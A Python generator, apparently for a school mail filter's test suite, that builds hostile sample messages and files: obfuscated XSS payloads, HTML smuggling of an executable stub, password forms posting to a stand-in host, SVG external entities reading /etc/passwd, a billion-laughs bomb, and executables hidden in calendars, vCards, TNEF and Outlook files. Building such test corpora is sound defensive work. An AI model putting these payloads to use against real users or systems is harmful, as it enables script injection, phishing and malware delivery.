# SPDX-License-Identifier: GPL-3.0-or-later
"""Hostile, lines 80 to 85: HTML, SVG, calendars, visiting cards, TNEF, messages as files."""
import base64
import struct

import ole
from corpus import bad_file, bad_mail
from inert import exe
from mime import attach, b64, crlf, entity, hello, message, mixed, multipart, qp, text_part
from zips import gz, plain

N = iter(range(1, 1000))
HTML = "html_active"


def page(body, head=""):
    return f"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>a</title>{head}</head><body>\n{body}\n</body></html>\n"


def in_mail(name, body, why, rule=HTML, cte="8bit", head="", charset="utf-8"):
    bad_mail("html-" + name, message([f"Content-Type: text/html; charset={charset}", f"Content-Transfer-Encoding: {cte}"],
             {"8bit": crlf, "quoted-printable": qp, "base64": b64}[cte](page(body, head)), next(N)), rule, 80, why)


def make():
    html_bodies()
    html_files()
    svg()
    calendars()
    cards()
    letters()


def html_bodies():
    link = HTML + " | link_disguised"
    for name, body in {"script": "<script>alert(1)</script>", "script-src": '<script src="https://boese.example/x.js"></script>', "iframe": '<iframe src="https://boese.example/"></iframe>',
                       "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;"></iframe>', "object": '<object data="a.swf"></object>', "embed": '<embed src="a.swf">', "applet": '<applet code="A.class"></applet>',
                       "form": '<form action="https://boese.example/"><input name="kennwort" type="password"><button>Weiter</button></form>', "onload": '<img src="cid:a" onload="x()">', "onerror": "<img src=x onerror=alert(1)>",
                       "onclick-caps": '<p ONCLICK="x()">a</p>', "handler-slash": '<img/src="x"/onerror=alert(1)>', "handler-newline": "<img src=x\nonerror\n=\nalert(1)>", "svg-inline": "<svg onload=alert(1)></svg>",
                       "svg-script": "<svg><script>alert(1)</script></svg>", "math": '<math><maction actiontype="statusline" xlink:href="javascript:x()">a</maction></math>', "script-case": "<ScRiPt >x()</sCrIpT>",
                       "script-open": "<script>x()//", "comment-breaks": "<!--><script>x()</script>-->", "conditional": "<!--[if mso]><script>x()</script><![endif]-->", "video": '<video autoplay onplay="x()"><source src="a"></video>',
                       "template": "<template><script>x()</script></template>", 
                       "details": "<details open ontoggle=x()>a</details>", "marquee": "<marquee onstart=x()>a</marquee>", "formaction": '<button formaction="javascript:x()">a</button>',
                       "smuggling": '<script>var b=new Blob([atob("TVqQAAMAAAA=")]);location=URL.createObjectURL(b)</script>', "meta-in-body": '<meta http-equiv="refresh" content="0;url=https://boese.example/">'}.items():
        in_mail(name, body, "active HTML in the text of a message")
    for name, top in {"refresh": '<meta http-equiv="refresh" content="0; url=https://boese.example/">', "refresh-case": "<META HTTP-EQUIV=Refresh CONTENT='1;URL=https://boese.example/'>",
                      "base": '<base href="https://boese.example/">'}.items():
        in_mail(name, '<a href="a.html">weiter</a>', "the page leads elsewhere by itself", link, head=top)
    for name, url in {"javascript": "javascript:alert(1)", "case": "JaVaScRiPt:alert(1)", "tab": "java\tscript:alert(1)", "newline": "java\nscript:alert(1)", "entity": "&#106;avascript:alert(1)", "entity-hex": "&#x6A;&#x61;vascript:x()",
                      "entity-no-semicolon": "&#0000106avascript:x()", "blank-front": "  javascript:x()", "control-front": "\x01javascript:x()", "vbscript": "vbscript:msgbox(1)", "data-html": "data:text/html,<script>x()</script>",
                      "data-base64": "data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=", "data-svg": "data:image/svg+xml,<svg onload=x()/>", "colon-entity": "javascript&colon;x()", "tab-entity": "java&Tab;script:x()"}.items():
        in_mail("url-" + name, f'<a href="{url}">Klassenfoto</a>', "a link that runs something", link + (" | unknown_kind" if name == "control-front" else ""))
    frames = message(["Content-Type: text/html; charset=utf-8"], crlf('<html><head><title>a</title></head><frameset cols="*"><frame src="https://boese.example/"></frameset></html>\n'), next(N))
    bad_mail("html-frameset", frames, HTML, 80, "a page of frames")
    in_mail("style-expression", '<p style="width:expression(alert(1))">a</p>', "a style that runs something in old programs")
    in_mail("style-url", '<div style="background:url(javascript:x())">a</div>', "a style that runs something", link)
    in_mail("in-qp", "<script>alert(1)</script>", "active HTML in quoted-printable", cte="quoted-printable")
    in_mail("in-base64", "<script>alert(1)</script>", "active HTML in base64", cte="base64")
    both = message(['Content-Type: multipart/alternative; boundary="alt"'], multipart("alt", [hello(), text_part(page("<script>x()</script>"), kind="html")]), next(N))
    bad_mail("html-alternative", both, HTML, 104, "text and HTML differ: the HTML is active")
    hidden = message(['Content-Type: multipart/alternative; boundary="alt"'], multipart("alt", [text_part(page("<script>x()</script>"), kind="plain"), text_part(page("<p>a</p>"), kind="html"),
                     text_part("<iframe src='https://boese.example/'></iframe>", kind="x-amp-html")]), next(N))
    bad_mail("html-amp", hidden, HTML + " | unknown_kind", 104, "a third alternative of AMP with a frame")
    enriched = mixed([text_part("<b>a</b>"), text_part(page("<script>x()</script>"), kind="xhtml+xml").replace(b"text/xhtml+xml", b"application/xhtml+xml")], number=next(N))
    bad_mail("html-xhtml-part", enriched, HTML, 80, "active XHTML as a part")
    plain_called = message(["Content-Type: text/plain; charset=utf-8"], crlf(page("<script>x()</script>")), next(N))
    bad_mail("html-text-x", plain_called.replace(b"text/plain", b"text/x-html"), HTML + " | mismatch | ambiguous", 80, "active HTML under a type that nobody knows")
    cid = mixed([text_part(page('<a href="cid:p@x">Foto</a>'), kind="html"), entity(["Content-Type: image/png", "Content-Transfer-Encoding: base64", "Content-ID: <p@x>"], b64(exe()))], number=next(N))
    bad_mail("cid-exe", cid, "program | mismatch", 105, "cid: leads to a program")
    bad_mail("cid-twice", mixed([text_part(page('<img src="cid:p@x">'), kind="html"), entity(["Content-Type: image/png", "Content-Transfer-Encoding: base64", "Content-ID: <p@x>", "Content-ID: <q@x>"],
             b64(b"\x89PNG\r\n\x1a\n"))], number=next(N)), "ambiguous | unreadable", 105, "two Content-ID fields")


def html_files():
    active = page("<script>alert(1)</script>")
    for name, data in {"seite.html": active, "seite.htm": page("<p onclick=x()>a</p>"), "seite.xhtml": '<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body><script>x()</script></body></html>',
                       "seite.shtml": active, "passiv.html": page("<h1>Hallo</h1>"), "smuggling.html": page('<script>var d=atob("TVqQAAMAAAAEAAAA");var a=document.createElement("a");a.download="start.exe";a.click()</script>'),
                       "ohne-doctype.html": "<b>Hallo</b><script>x()</script>"}.items():
        bad_file("page-" + name, crlf(data), HTML, 80, "an HTML file of a pupil" if name == "passiv.html" else "an active page as a file")
    bad_file("page-utf16.html", active.encode("utf-16"), HTML, 80, "an active page in UTF-16")
    bad_file("page-teacher.html", crlf(active), HTML, 80, "an active page, even of a teacher", role="teacher", area="material")
    bad_file("page-comment.html", crlf("<!-- " + "x" * 5000 + " -->" + active), HTML, 80, "a page that begins with a long comment")
    related = b'From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\nContent-Location: https://boese.example/\r\n\r\n<html><script>x()</script></html>\r\n--x--\r\n'
    bad_file("page.mht", related, HTML, 80, "a saved page with a script")
    bad_file("page.mhtml", related.replace(b"From: <Saved by Blink>\r\n", b""), HTML + " | unknown_kind", 80, "a saved page with a script, without its first field")
    bad_file("page-zip.zip", plain({"index.html": active.encode(), "bild.txt": b"x"}), HTML, 80, "an active page in a ZIP")
    bad_file("page.xml", b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://boese.example/a.xsl"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>x()</h:script></a>', HTML + " | remote | script | mismatch", 80, "XML that becomes an active page")


def svg():
    def drawing(inside, attributes="", head='<?xml version="1.0" encoding="UTF-8"?>\n'):
        return f'{head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"{attributes}>{inside}</svg>\n'

    rule = "svg_active"
    for name, data in {"script": drawing("<script>alert(1)</script>"), "script-cdata": drawing("<script><![CDATA[alert(1)]]></script>"), "script-href": drawing('<script xlink:href="https://boese.example/x.js"/>'), "onload": drawing("", ' onload="x()"'),
                       "onclick": drawing('<rect width="5" height="5" onclick="x()"/>'), "foreign": drawing('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://boese.example/"/></foreignObject>'),
                       "href": drawing('<a xlink:href="javascript:alert(1)"><text>a</text></a>'), "href-entity": drawing('<a href="&#106;avascript:alert(1)"><text>a</text></a>'), "animate": drawing('<a><animate attributeName="href" values="javascript:x()"/><text>a</text></a>'),
                       "set": drawing('<rect><set attributeName="onmouseover" to="x()"/></rect>'), "handler": drawing('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">x()</handler>'),
                       "entity-declared": '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY s "script">]>\n' + drawing("<g>&s;</g><script>x()</script>", head=""), "namespace": '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>x()</s:script></s:svg>',
                       "image-data": drawing('<image xlink:href="data:image/svg+xml;base64,' + base64.b64encode(b"<svg onload='x()' xmlns='http://www.w3.org/2000/svg'/>").decode() + '"/>'), "use-data": drawing('<use href="data:image/svg+xml,&lt;svg id=&quot;x&quot; onload=&quot;x()&quot;/&gt;#x"/>'),
                       "iframe": drawing('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://boese.example/"/>')}.items():
        bad_file(f"svg-{name}.svg", data.encode(), rule + " | link_disguised | html_active | remote", 81, "a drawing that acts")
    bad_file("svg-entity-external.svg", ('<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n' + drawing("<text>&x;</text>", head="")).encode(), rule + " | remote | unreadable | link_disguised", 81, "an entity from elsewhere")
    bad_file("svg-entity-bomb.svg", ('<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]>\n" + drawing("<text>&j;</text>", head="")).encode(),
             rule + " | too_big | unreadable", 81, "a billion laughs")
    bad_file("svg-utf16.svg", drawing("<script>x()</script>", head='<?xml version="1.0" encoding="UTF-16"?>\n').encode("utf-16"), rule, 81, "an active drawing in UTF-16")
    bad_file("svg-utf7.svg", drawing("+ADw-script+AD4-x()+ADw-/script+AD4-", head='<?xml version="1.0" encoding="UTF-7"?>\n').encode(), rule + " | ambiguous | unreadable", 81, "an active drawing in UTF-7")
    bad_file("svg-packed.svgz", gz(drawing("<script>x()</script>").encode()), rule + " | mismatch", 81, "an active drawing, packed")
    bad_file("svg-as-png.png", drawing("<script>x()</script>").encode(), rule + " | mismatch", 81, "an active drawing called PNG")
    bad_file("svg-as-xml.xml", drawing("<script>x()</script>").encode(), rule + " | mismatch", 81, "an active drawing called XML")
    bad_mail("svg-inline", mixed([hello(), attach("bild.svg", drawing("<script>x()</script>").encode(), "image/svg+xml")], number=next(N)), rule, 81, "an active drawing in a message")


def event(*lines, method="REQUEST"):
    return crlf("\n".join(["BEGIN:VCALENDAR", "PRODID:-//Schule//DE", "VERSION:2.0", f"METHOD:{method}", "BEGIN:VEVENT", "UID:abc@schule.example", "DTSTAMP:20251118T080000Z", "DTSTART:20251120T080000Z", "SUMMARY:Elternabend", *lines, "END:VEVENT",
                           "END:VCALENDAR", ""]))


def calendars():
    code = base64.b64encode(exe()).decode()
    folded = "ATTACH;FMTTYPE=application/octet-stream;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=start.exe:" + code
    folds = folded[:70] + "".join("\n " + folded[at:at + 70] for at in range(70, len(folded), 70))
    rule = "calendar_active | program | html_active | name | link_disguised"
    for name, lines in {"attach": [folds], "attach-plain": ["ATTACH;ENCODING=BASE64;VALUE=BINARY:" + code], "procedure": ["BEGIN:VALARM", "ACTION:PROCEDURE", "TRIGGER:-PT5M", "ATTACH;FMTTYPE=application/octet-stream:file:///c:/windows/calc.exe", "END:VALARM"],
                        "email": ["BEGIN:VALARM", "ACTION:EMAIL", "TRIGGER:-PT5M", "ATTENDEE:mailto:alle@schule.example", "SUMMARY:x", "DESCRIPTION:y", "END:VALARM"], "procedure-folded": ["BEGIN:VALARM", "ACTI\n ON:PROC\n EDURE", "TRIGGER:-PT5M", "END:VALARM"],
                        "html": ['X-ALT-DESC;FMTTYPE=text/html:<html><body><script>x()</script></body></html>'], "html-refresh": ['X-ALT-DESC;FMTTYPE=text/html:<meta http-equiv=refresh content="0;url=https://boese.example/">'],
                        "url-script": ["URL:javascript:alert(1)"], "attach-file": ["ATTACH:file:///etc/passwd"], "lower": ["begin:valarm", "action:procedure", "trigger:-PT5M", "end:valarm"]}.items():
        bad_file(f"ics-{name}.ics", event(*lines), rule, 82, "an appointment that acts or carries")
        bad_mail("ics-" + name, message(["Content-Type: text/calendar; charset=utf-8; method=REQUEST", "Content-Transfer-Encoding: 8bit"], event(*lines), next(N)), rule, 82, "an invitation that acts or carries")
    bad_mail("ics-alternative", message(['Content-Type: multipart/alternative; boundary="c"'], multipart("c", [hello(), text_part(event(folds), kind="calendar", cte="base64")]), next(N)), rule, 82, "a program in an invitation in base64")
    bad_file("ics-link-listed.ics", event("URL:https://spiele.gesperrt.example/a"), "link_listed", 91, "a listed host in an appointment")


def cards():
    def card(*lines):
        return crlf("\n".join(["BEGIN:VCARD", "VERSION:3.0", "N:Sommer;Mia;;;", "FN:Mia Sommer", *lines, "END:VCARD", ""]))

    big = base64.b64encode(bytes((n * 7919) % 256 for n in range(150000))).decode()
    code = base64.b64encode(exe()).decode()
    bad_file("vcf-exe-photo.vcf", card("PHOTO;ENCODING=b;TYPE=JPEG:" + code), "program | mismatch", 83, "a program as the photo")
    bad_file("vcf-exe-key.vcf", card("KEY;ENCODING=BASE64:" + code), "program | mismatch", 83, "a program as the key")
    bad_file("vcf-exe-data.vcf", card("PHOTO:data:application/octet-stream;base64," + code), "program | mismatch | link_disguised", 83, "a program as a data URL")
    bad_file("vcf-large.vcf", card("PHOTO;ENCODING=b;TYPE=JPEG:" + big[:199000])[:204000], "too_big | unreadable | unknown_kind | mismatch", 83, "a photo of 200 KB that is none")
    bad_file("vcf-script-url.vcf", card("URL:javascript:alert(1)"), "link_disguised", 83, "a link that runs something")
    bad_file("vcf-listed.vcf", card("URL:https://www.gesperrt.example/"), "link_listed", 91, "a listed host on a visiting card")
    bad_mail("vcf-exe", mixed([hello(), attach("mia.vcf", card("PHOTO;ENCODING=b;TYPE=JPEG:" + code), "text/vcard")], number=next(N)), "program | mismatch", 83, "a program as the photo on a visiting card")


def tnef(attributes):
    out = struct.pack("<IH", 0x223E9F78, 1)
    for level, number, data in attributes:
        out += struct.pack("<BII", level, number, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)
    return out


def letters():
    rend = struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0, 0, 0)
    for name, title, data in (("exe", b"start.exe\0", exe()), ("text", b"lies.txt\0", b"nur Text\r\n"), ("none", None, b"")):
        body = tnef([(1, 0x89006, struct.pack("<I", 0x10000))] + ([(2, 0x69002, rend), (2, 0x18010, title), (2, 0x6800F, data)] if title else []))
        bad_mail("winmail-" + name, mixed([hello(), attach("winmail.dat", body, "application/ms-tnef")], number=next(N)), "winmail | program", 84, "TNEF, which nobody but Outlook reads")
        bad_file(f"winmail-{name}.dat", body, "winmail | program | mismatch", 84, "TNEF as a file", as_name="winmail.dat")
    bad_mail("winmail-renamed", mixed([hello(), attach("foto.jpg", tnef([(1, 0x89006, bytes(4))]), "image/jpeg")], number=next(N)), "winmail | mismatch", 84, "TNEF called a picture")
    bad_mail("winmail-teacher", mixed([hello(), attach("winmail.dat", tnef([(1, 0x89006, bytes(4))]), "application/ms-tnef")], number=next(N)), "winmail", 84, "TNEF of a teacher: the answer explains how to send", role="teacher")
    evil = attach("start.exe", exe())
    letter = mixed([hello(), evil], number=77)
    bad_file("brief.eml", letter, "program | name", 85, "a program in a stored message")
    bad_file("brief.emlx", b"%d\n" % len(letter) + letter, "program | name | unknown_kind | ambiguous | hidden", 85, "a program in a stored message of Apple Mail")
    bad_file("brief-called.txt", letter, "program | name | hidden | mismatch", 85, "a message with a program, called text")
    bad_file("mbox", b"From mia@schule.example Tue Nov 18 08:00:00 2025\r\n" + letter, "program | name | hidden | ambiguous | unknown_kind", 85, "a mailbox file with a program", as_name="Posteingang.mbox")
    bad_file("brief.msg", ole.compound({"__properties_version1.0": bytes(32), "__substg1.0_0037001F": "Hallo".encode("utf-16le"), "__attach_version1.0_#00000000/__substg1.0_37010102": exe()}, ole.MSG), "program | embedded | unreadable | unknown_kind", 85, "a message of Outlook (.msg)")
    bad_file("harmlos.msg", ole.compound({"__properties_version1.0": bytes(32), "__substg1.0_0037001F": "Hallo".encode("utf-16le")}, ole.MSG), "unreadable | embedded | unknown_kind | program", 85, "a message of Outlook (.msg): refused, whatever is in it")
    bad_file("paket.msi", ole.compound({"SummaryInformation": bytes(64), "!_Tables": bytes(40)}, ole.MSI), "program | name | unknown_kind | unreadable", 73, "an installer")
    bad_mail("eml-attached", mixed([hello(), attach("weiter.eml", letter, "message/rfc822", "8bit")], number=next(N)), "program | name", 85, "a program in an attached message")
    bad_mail("eml-octets", mixed([hello(), attach("weiter.eml", letter)], number=next(N)), "program | name | hidden", 85, "a program in a message that is called octets")
    bad_mail("msg-attached", mixed([hello(), attach("weiter.msg", ole.compound({"__properties_version1.0": bytes(32)}, ole.MSG), "application/vnd.ms-outlook")], number=next(N)), "unreadable | embedded | unknown_kind | program", 85, "a message of Outlook as attachment")
